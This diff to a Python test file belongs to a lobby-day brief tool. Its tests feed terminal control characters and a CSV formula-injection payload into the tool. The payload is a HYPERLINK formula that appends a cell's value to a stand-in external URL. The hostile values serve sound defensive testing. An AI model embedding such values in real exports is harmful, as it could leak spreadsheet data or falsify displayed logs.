@@ -30,7 +30,7 @@ def test_a_lobby_day_and_the_log_print_no_control_characters(tmp_path: Path) -> 
     day.write_text(
         "legislator,date,time,ask,notes\n"
         f'Jeanne Shaheen,2026-12-03,10:30,"Keep it\rOVERWRITTEN",note{ESC}\n'
-        f'Nobody{ESC} Atall,2026-12-03,11:30,ask,\n',
+        f"Nobody{ESC} Atall,2026-12-03,11:30,ask,\n",
         encoding="utf-8",
         newline="",
     )
@@ -49,7 +49,7 @@ def test_a_csv_export_runs_no_formula(tmp_path: Path, monkeypatch) -> None:
     brief = brief_in(tmp_path / "b")
     text = brief.read_text(encoding="utf-8").replace(
         "ask: Keep every sanction on the Lukashenka regime in place.",
-        "ask: '=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")'",
+        'ask: \'=HYPERLINK("http://example.invalid/?"&A1,"Click")\'',
     )
     brief.write_text(text, encoding="utf-8")
     assert cli("build", str(brief), "-o", str(tmp_path / "p.pdf"))[0] == 0
